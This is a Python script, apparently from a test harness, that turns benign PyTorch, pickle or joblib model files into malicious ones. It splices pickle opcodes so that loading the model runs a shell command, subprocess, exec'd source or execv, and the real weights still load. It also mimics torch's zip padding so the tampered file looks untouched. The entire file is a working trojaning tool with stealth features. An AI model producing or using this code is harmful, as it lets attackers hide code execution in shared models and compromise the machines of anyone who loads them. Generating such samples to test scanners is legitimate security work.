#!/usr/bin/python3
"""Turn a benign model file into a malicious one that still loads and serves correctly.

Works like the `fickling` tool: a few pickle opcodes are spliced in right after the PROTO
opcode, so the unpickler first calls the gadget, POPs its result off the stack, and then runs the
untouched original pickle, which returns the real state_dict. The payload therefore runs at load
time and the server comes up as if nothing happened.

  --format pt      base is a torch.save zip: only its */data.pkl entry is rewritten; every other
                   entry keeps its exact bytes, order, name and timestamp
  --format pickle  base is a plain pickle (make_model.py's model.pkl, {name: ndarray}; a pickled
                   scikit-learn estimator or XGBoost booster)
  --format joblib  base is a joblib.dump file: a pickle with numpy arrays' raw bytes inline
                   between its opcodes (so only the spliced prefix can be parsed as opcodes)

Gadgets (the callable the pickle invokes):
  os.system        os.system(--command)
  subprocess.Popen subprocess.Popen(--argv)
  builtins.exec    exec("PARAMS = <--params>\\n" + <--source-file>, {}): an in-process payload
  os.execv         os.execv(argv[0], --argv): the server process becomes argv[0]

Imports neither torch nor numpy (it runs once per test case and must be quick); the result is
checked with pickletools, which parses opcodes without executing anything.
"""

import argparse
import io
import json
import pickletools
import struct
import sys
import zipfile

GADGETS = ("os.system", "subprocess.Popen", "builtins.exec", "os.execv")
PICKLE_ENTRY_SUFFIX = "/data.pkl"
# torch's zip writer pads each local header with an "FB" extra field so entry data starts on a
# 64-byte boundary; keeping that makes the rewritten file look like torch wrote it.
TORCH_ALIGNMENT = 64
LOCAL_HEADER_SIZE = 30


class InjectError(Exception):
    """Bad arguments or an unusable base file; reported on stderr with exit code 1."""


# Pickle opcodes, all available since protocol 2 (torch.save writes protocol 2).
def op_global(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def op_str(text):
    encoded = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(encoded)) + encoded  # BINUNICODE


def op_list(items):
    return b"(" + b"".join(op_str(item) for item in items) + b"l"  # MARK ... LIST


OP_TUPLE1, OP_TUPLE2, OP_EMPTY_DICT, OP_REDUCE, OP_POP = b"\x85", b"\x86", b"}", b"R", b"0"


def gadget_call(args):
    """Opcodes that call the gadget and discard its result, leaving the stack as it was.

    No MEMOIZE/PUT opcodes: the original pickle's memo indices must stay valid.
    """
    if args.gadget == "os.system":
        call = op_global("os", "system") + op_str(args.command) + OP_TUPLE1
    elif args.gadget == "subprocess.Popen":
        call = op_global("subprocess", "Popen") + op_list(args.argv) + OP_TUPLE1
    elif args.gadget == "os.execv":
        call = op_global("os", "execv") + op_str(args.argv[0]) + op_list(args.argv) + OP_TUPLE2
    else:
        # A fresh globals dict: without it exec() would run in the namespace of whichever module
        # called the unpickler (torch.serialization), and the payload's names would clobber its own.
        source = "PARAMS = " + json.dumps(args.params) + "\n" + args.source
        call = op_global("builtins", "exec") + op_str(source) + OP_EMPTY_DICT + OP_TUPLE2
    return call + OP_REDUCE + OP_POP


def inject(pickle_bytes, payload, whole=True):
    """Insert payload after the PROTO opcode (which must stay first) and check the result parses:
    all of it (whole), or, for a joblib file whose array data sit between opcodes, the prefix up to
    the original pickle's first opcode."""
    insert_at = 2 if pickle_bytes[:1] == b"\x80" else 0
    result = pickle_bytes[:insert_at] + payload + pickle_bytes[insert_at:]
    for _ in pickletools.genops(result if whole else result[:insert_at + len(payload)] + b"."):
        pass
    if not whole:
        # The original's first opcode must follow: PROTO 4+ is followed by FRAME or an opcode.
        next(pickletools.genops(pickle_bytes[insert_at:]))
    return result


def aligned_extra(header_offset, name):
    """An "FB" padding extra field that puts the entry's data on a TORCH_ALIGNMENT boundary."""
    unpadded = header_offset + LOCAL_HEADER_SIZE + len(name.encode()) + 4
    padding = -unpadded % TORCH_ALIGNMENT
    return b"FB" + struct.pack("<H", padding) + b"Z" * padding


def rewrite_torch_zip(base_path, out_path, payload):
    try:
        source = zipfile.ZipFile(base_path)
    except zipfile.BadZipFile:
        raise InjectError(f"{base_path} is not a torch.save zip (use --format pickle for a plain pickle)")
    with source:
        entries = source.infolist()
        pickle_entries = [entry for entry in entries if entry.filename.endswith(PICKLE_ENTRY_SUFFIX)
                          and entry.filename.count("/") == 1]
        if len(pickle_entries) != 1:
            raise InjectError(f"{base_path}: expected one <archive>{PICKLE_ENTRY_SUFFIX} entry, "
                              f"found {len(pickle_entries)}")
        # Built in memory, so a failure leaves no half-written model behind.
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as target:
            for entry in entries:
                data = source.read(entry)
                if entry is pickle_entries[0]:
                    data = inject(data, payload)
                copy = zipfile.ZipInfo(entry.filename, date_time=entry.date_time)
                copy.compress_type = entry.compress_type
                copy.external_attr = entry.external_attr
                copy.extra = aligned_extra(buffer.tell(), entry.filename)
                target.writestr(copy, data)
                # torch writes the padding in the local header only; the central directory is
                # written at close from .extra, so clearing it now keeps the central copy empty.
                copy.extra = b""
    with open(out_path, "wb") as out:
        out.write(buffer.getvalue())


def rewrite_plain_pickle(base_path, out_path, payload, whole=True):
    with open(base_path, "rb") as f:
        data = f.read()
    if zipfile.is_zipfile(base_path):
        raise InjectError(f"{base_path} is a zip (torch.save); use --format pt")
    try:
        injected = inject(data, payload, whole)
    except ValueError as error:
        raise InjectError(f"{base_path} is not a pickle: {error}")
    with open(out_path, "wb") as out:
        out.write(injected)


def parse_args():
    parser = argparse.ArgumentParser(description="Splice a load-time payload into a model's pickle.")
    parser.add_argument("--base", required=True,
                        help="benign model: model.pt for --format pt, a pickle for --format pickle, a joblib.dump file for --format joblib")
    parser.add_argument("--out", required=True, help="malicious model to write")
    parser.add_argument("--format", required=True, choices=("pt", "pickle", "joblib"))
    parser.add_argument("--gadget", required=True, choices=GADGETS)
    parser.add_argument("--command", help="shell command for os.system")
    parser.add_argument("--argv", help="JSON list of strings for subprocess.Popen and os.execv")
    parser.add_argument("--source-file", help="payload source for builtins.exec")
    parser.add_argument("--params", default="{}",
                        help="JSON object bound to PARAMS for builtins.exec (default {}); @FILE reads it "
                             "from FILE (a dropped binary does not fit in one command-line argument)")
    args = parser.parse_args()

    needs = {"os.system": "command", "subprocess.Popen": "argv", "os.execv": "argv", "builtins.exec": "source_file"}
    for gadget_arg in ("command", "argv", "source_file"):
        given = getattr(args, gadget_arg) is not None
        if given != (needs[args.gadget] == gadget_arg):
            flag = "--" + gadget_arg.replace("_", "-")
            parser.error(f"{flag} is {'not used' if given else 'required'} with --gadget {args.gadget}")
    if args.argv is not None:
        try:
            args.argv = json.loads(args.argv)
        except ValueError as error:
            parser.error(f"--argv is not JSON: {error}")
        if not isinstance(args.argv, list) or not args.argv or not all(isinstance(a, str) for a in args.argv):
            parser.error("--argv must be a non-empty JSON list of strings")
    try:
        if args.params.startswith("@"):
            with open(args.params[1:]) as params_file:
                args.params = params_file.read()
        args.params = json.loads(args.params)
    except OSError as error:
        parser.error(f"--params file: {error}")
    except ValueError as error:
        parser.error(f"--params is not JSON: {error}")
    if not isinstance(args.params, dict):
        parser.error("--params must be a JSON object")
    if args.source_file is not None:
        try:
            with open(args.source_file, encoding="utf-8") as f:
                args.source = f.read()
        except OSError as error:
            parser.error(f"cannot read --source-file: {error}")
        try:
            compile(args.source, args.source_file, "exec")
        except SyntaxError as error:
            parser.error(f"--source-file does not compile: {error}")
    return args


def main():
    args = parse_args()
    payload = gadget_call(args)
    try:
        if args.format == "pt":
            rewrite_torch_zip(args.base, args.out, payload)
        else:
            rewrite_plain_pickle(args.base, args.out, payload, whole=args.format == "pickle")
    except (InjectError, OSError) as error:
        print(f"inject_pickle.py: {error}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
